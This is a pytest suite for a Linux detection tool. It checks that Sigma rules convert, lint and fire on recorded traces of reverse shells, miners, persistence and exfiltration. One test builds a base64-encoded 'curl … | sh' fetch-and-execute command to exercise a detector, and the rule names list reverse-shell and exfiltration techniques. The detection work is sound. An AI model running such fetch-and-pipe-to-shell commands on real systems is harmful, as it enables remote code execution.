"""Sigma rules through pySigma: the rules of tests/fixtures/sigma/linux (SigmaHQ's style, every
log source and modifier we convert) convert, keep their metadata, lint clean and fire on the
recorded corpus; tests/fixtures/sigma/unsupported gives one line with path:line per rule."""

from __future__ import annotations

import json
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from coi_sentinel.cli.main import cli
from coi_sentinel.replay import replay
from coi_sentinel.rules import load_ruleset
from coi_sentinel.rules.lint import lint
from coi_sentinel.rules.loader import bundled_dir
from coi_sentinel.rules.sigma import SentinelBackend, convert_paths

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[3]
SIGMA = ROOT / "tests" / "fixtures" / "sigma"
TRACES = bundled_dir() / "tests" / "traces"

#: converted rule -> a recorded trace where it must fire, and how often
FIRES: dict[str, tuple[str, int]] = {
    "bash_reverse_shell_via_dev_tcp_redirection": ("revshell_bash_dev_tcp", 1),
    "busybox_netcat_with_program_execution": ("revshell_busybox_nc", 1),
    "python_reverse_shell_one_liner": ("revshell_python_dup2", 1),
    "perl_reverse_shell_one_liner": ("revshell_perl", 1),
    "program_executed_from_tmp_directory": ("exec_tmp", 1),
    "crypto_miner_stratum_pool_argument": ("miner_xmrig", 1),
    "curl_request_to_cloud_metadata_service": ("net_cloud_metadata", 1),
    "curl_upload_of_standard_input": ("exfil_env_curl", 1),
    "debugger_attaching_to_a_running_process": ("priv_ptrace", 2),
    "unshare_mapping_the_current_user_to_root": ("priv_namespaces", 1),
    "setpriv_switch_to_the_nobody_account": ("persist_cron", 2),
    "chmod_sets_the_setuid_or_setgid_bit": ("persist_setuid", 2),
    "shell_writing_a_nopasswd_sudoers_entry": ("persist_sudoers", 2),
    "process_spawned_by_a_debugger": ("priv_ptrace", 1),
    "shell_startup_file_modification": ("persist_shell_rc", 2),
    "ssh_authorized_keys_written": ("persist_authorized_keys", 1),
    "cron_configuration_written": ("persist_cron", 2),
    "systemd_service_unit_written": ("persist_service_unit", 2),
    "git_hook_written": ("persist_git_hook", 1),
    "dropped_file_removed_from_tmp": ("exec_tmp", 1),
    "connection_to_a_common_c2_port": ("c2_beacon", 1),
    "connection_to_link_local_metadata_address": ("net_cloud_metadata", 1),
    "connection_to_a_mining_pool_port": ("miner_xmrig", 1),
    "curl_connection_to_a_private_network": ("net_private", 1),
    "interactive_bash_started": ("revshell_bash_dev_tcp", 1),
    "ptrace_syscall_by_strace": ("priv_ptrace", 23),
    "sudoers_file_accessed": ("persist_sudoers", 2),
}


@pytest.fixture(scope="module")
def converted(tmp_path_factory: Any) -> tuple[Any, Path]:
    report = convert_paths([SIGMA / "linux"])
    path = tmp_path_factory.mktemp("sigma") / "sigma.yaml"
    path.write_text(report.yaml())
    return report, path


def test_every_rule_converts_and_keeps_its_metadata(converted: tuple[Any, Path]) -> None:
    report, _ = converted
    assert [r.text() for r in report.skipped] == []
    assert len(report.converted) == len(FIRES) >= 20
    categories = Counter()
    for result in report.converted:
        source = yaml.safe_load(Path(result.path).read_text())
        item = result.item
        assert item["title"] == source["title"]
        assert item["sigma_id"] == source["id"] == result.sigma_id
        assert item["references"] == source["references"]
        assert set(source["tags"]) <= set(item["tags"])
        assert any(t.startswith("T1") for t in item["tags"])
        assert item["severity"] == source["level"]
        assert item["false_positives"] == "; ".join(source["falsepositives"])
        categories[source["logsource"].get("category") or source["logsource"]["service"]] += 1
    assert set(categories) == {"process_creation", "file_event", "file_delete", "network_connection", "auditd"}


def test_modifiers_are_all_covered() -> None:
    text = "".join(p.read_text() for p in (SIGMA / "linux").glob("*.yml"))
    for modifier in ("|contains", "|startswith", "|endswith", "|all", "|re", "|cidr", "|windash", "|cased",
                     "|exists", "|gt"):
        assert modifier in text, modifier


def test_converted_rules_lint_clean(converted: tuple[Any, Path]) -> None:
    _, path = converted
    alone = lint([path], replace_bundled=True)
    assert [str(d) for d in alone.diagnostics] == []
    beside = lint([path])
    assert beside.errors == []


def test_converted_rules_fire_on_recorded_traces(converted: tuple[Any, Path]) -> None:
    _, path = converted
    ruleset = load_ruleset([path], replace_bundled=True)
    assert sorted(ruleset.rule_ids) == sorted(FIRES)
    by_trace: dict[str, list[str]] = {}
    for rid, (trace, _) in FIRES.items():
        by_trace.setdefault(trace, []).append(rid)
    for trace, rids in by_trace.items():
        result = replay([TRACES / f"{trace}.jsonl.gz"], ruleset)
        for rid in rids:
            assert result.by_rule[rid] == FIRES[rid][1], (rid, trace, dict(result.by_rule))


def test_converted_rules_stay_quiet_on_benign_work(converted: tuple[Any, Path]) -> None:
    _, path = converted
    ruleset = load_ruleset([path], replace_bundled=True)
    traces = [TRACES / f"{n}.jsonl.gz" for n in ("benign_git", "benign_compile", "benign_edit", "benign_tmux")]
    assert dict(replay(traces, ruleset, each=True).by_rule) == {}


def test_conditions_are_our_language(converted: tuple[Any, Path]) -> None:
    report, _ = converted
    cond = {r.item["rule"]: r.item["condition"] for r in report.converted}
    assert cond["busybox_netcat_with_program_execution"].count('proc.cmdline icontains') == 6   # windash
    assert 'proc.exe regex "/python[0-9.]*$"' in cond["python_reverse_shell_one_liner"]
    assert 'proc.cmdline contains "NOPASSWD"' in cond["shell_writing_a_nopasswd_sudoers_entry"]  # cased
    assert 'net.dip cidr "169.254.0.0/16"' in cond["connection_to_link_local_metadata_address"]
    assert "proc.pcmdline exists" in cond["process_spawned_by_a_debugger"]
    assert "proc.pid > 0" in cond["process_spawned_by_a_debugger"]
    assert 'file.path startswith "/etc/cron.d/"' in cond["cron_configuration_written"]     # paths: cased
    assert "evt.type = ptrace" in cond["ptrace_syscall_by_strace"]
    assert cond["interactive_bash_started"].startswith("evt.type in (exec)")


def test_base64offset_converts_and_matches(tmp_path: Path, rules: Any, ev: Any, run: Any) -> None:
    import base64

    report = convert_paths([SIGMA / "extra"])
    assert len(report.converted) == 1
    path = tmp_path / "b64.yaml"
    path.write_text(report.yaml())
    r = run(load_ruleset([path], replace_bundled=True))
    payload = base64.b64encode(b"xx; curl -s http://198.18.0.1/x | sh").decode()
    assert r.feed(ev.exec(5, "/usr/bin/sh", "sh", "-c", f"echo {payload} | base64 -d | sh")) \
        == ["base64_encoded_payload_marker_in_command_line"]
    assert r.feed(ev.exec(6, "/usr/bin/sh", "sh", "-c", "curl -s http://198.18.0.1/x")) == []


EXPECTED_SKIPS = [
    "lnx_auditd_accept.yml:18: skipped: Accept Syscall By Shell: syscall 'accept' is not supported: inbound "
    "sockets are not probed; watch the outbound side with connect (fd.sip, fd.sport)",
    "lnx_auditd_key.yml:18: skipped: Auditd Rule Key For Modules: field 'key' is not supported: auditd rule keys "
    "name auditd's own rules: match the syscall, exe or name instead",
    "net_connection_lnx_hostname.yml:17: skipped: Connection To Paste Site: field 'DestinationHostname' is not "
    "supported: DNS names are not recorded: match DestinationIp (cidr)",
    "proc_creation_lnx_current_directory.yml:18: skipped: Program Started In Tmp Working Directory: field "
    "'CurrentDirectory' is not supported: the working directory is not recorded: match Image or CommandLine",
    "proc_creation_lnx_fieldref.yml:17: skipped: Parent Equals Child Image: fieldref (comparing two fields) is "
    "not supported: compare with values",
    "proc_creation_lnx_keywords.yml:16: skipped: Keyword Search For Netcat: keyword searches (values without a "
    "field) are not supported: name the field",
    "proc_creation_win_powershell.yml:12: skipped: Windows PowerShell Download Cradle: log source is not "
    "supported: coi-sentinel converts product linux with category process_creation, file_event, file_delete, "
    "network_connection or service auditd",
]


def test_unsupported_constructs_are_one_line_each_with_path_and_line() -> None:
    report = convert_paths([SIGMA / "unsupported"])
    assert report.converted == []
    assert [r.text().rsplit("/", 1)[1] for r in report.results] == EXPECTED_SKIPS
    tokens = {"lnx_auditd_accept.yml": "syscall:", "lnx_auditd_key.yml": "key:",
              "net_connection_lnx_hostname.yml": "DestinationHostname|",
              "proc_creation_lnx_current_directory.yml": "CurrentDirectory|",
              "proc_creation_lnx_fieldref.yml": "|fieldref", "proc_creation_lnx_keywords.yml": "keywords:",
              "proc_creation_win_powershell.yml": "logsource:"}
    for result in report.results:       # the line named holds the construct
        line = Path(result.path).read_text().splitlines()[result.line - 1]
        assert tokens[Path(result.path).name] in line, line


def test_cli_import_sigma_directory_prints_a_summary(tmp_path: Path) -> None:
    out = tmp_path / "converted.yaml"
    result = CliRunner().invoke(cli, ["rules", "import-sigma", str(SIGMA), "-o", str(out)])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[-1] == (f"{len(FIRES) + 1} converted, 7 skipped (field 3, event 1, modifier 1, keyword 1, "
                         f"logsource 1) of {len(FIRES) + 8} Sigma rule(s)")
    assert sum(": converted: " in x for x in lines) == len(FIRES) + 1
    assert sum(": skipped: " in x for x in lines) == 7
    assert lint([out], replace_bundled=True).errors == []


def test_cli_import_sigma_json_and_exit_code(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["rules", "import-sigma", str(SIGMA / "unsupported"), "--json"])
    assert result.exit_code == 1          # nothing converted
    doc = json.loads(result.output)
    assert doc["converted"] == 0 and doc["skipped"] == 7
    assert {r["kind"] for r in doc["results"]} == {"field", "event", "modifier", "keyword", "logsource"}


def test_watch_loads_sigma_rules_directly() -> None:
    ruleset = load_ruleset(None, sigma_paths=[SIGMA])
    assert set(FIRES) <= set(ruleset.rule_ids)
    warnings = [str(d) for d in ruleset.diagnostics.warnings if "Sigma rule skipped" in d.message]
    assert len(warnings) == 7
    rule = ruleset.rule("git_hook_written").rule
    assert rule.sigma_id
    assert str(rule.source).endswith("tests/fixtures/sigma/linux/file_event_lnx_git_hook.yml:1")


def test_backend_is_a_pysigma_backend_with_a_pipeline() -> None:
    from sigma.conversion.base import Backend
    from sigma.processing.pipeline import ProcessingPipeline

    assert issubclass(SentinelBackend, Backend)
    assert isinstance(SentinelBackend.backend_processing_pipeline, ProcessingPipeline)
    ids = [i.identifier for i in SentinelBackend.backend_processing_pipeline.items]
    assert "coi_fields_process_creation" in ids and "coi_unsupported_field" in ids


def test_cli_lint_checks_sigma_rules_as_watch_loads_them() -> None:
    result = CliRunner().invoke(cli, ["rules", "lint", "--only", "--sigma", str(SIGMA)])
    assert result.exit_code == 0, result.output
    skipped = [x for x in result.output.splitlines() if "Sigma rule skipped" in x]
    assert len(skipped) == 7
    assert "proc_creation_lnx_keywords.yml:16: warning: Sigma rule skipped: keyword searches" in "".join(skipped)


def test_edge_cases_are_skipped_with_their_line(tmp_path: Path) -> None:
    (tmp_path / "multi.yml").write_text(
        "title: Base Rule\nname: base_rule\nlogsource: {product: linux, category: process_creation}\n"
        "detection:\n    sel:\n        Image|endswith: '/ssh'\n    condition: sel\nlevel: low\n---\n"
        "title: Many SSH\ncorrelation:\n    type: event_count\n    rules: [base_rule]\n"
        "    group-by: [User]\n    timespan: 5m\n    condition: {gte: 10}\nlevel: high\n")
    (tmp_path / "expand.yml").write_text(
        "title: Expand\nlogsource: {product: linux, category: process_creation}\ndetection:\n    sel:\n"
        "        CommandLine|expand: '%admins%'\n    condition: sel\nlevel: low\n")
    (tmp_path / "broken.yml").write_text("title: x\ndetection: [\n")
    lines = [r.text().rsplit("/", 1)[1] for r in convert_paths([tmp_path]).results]
    assert lines == [
        "broken.yml:3: skipped: (no title): not valid Sigma: invalid YAML: expected the node content, but "
        "found '<stream end>'",
        "expand.yml:5: skipped: Expand: placeholder %admins% (expand modifier) has no value: write the values",
        "multi.yml:4: skipped: Base Rule: the rule gives no query (a rule only a correlation uses): write a "
        "sequence or threshold rule",
        "multi.yml:10: skipped: Many SSH: correlation rules are not supported: write a sequence or threshold rule",
    ]
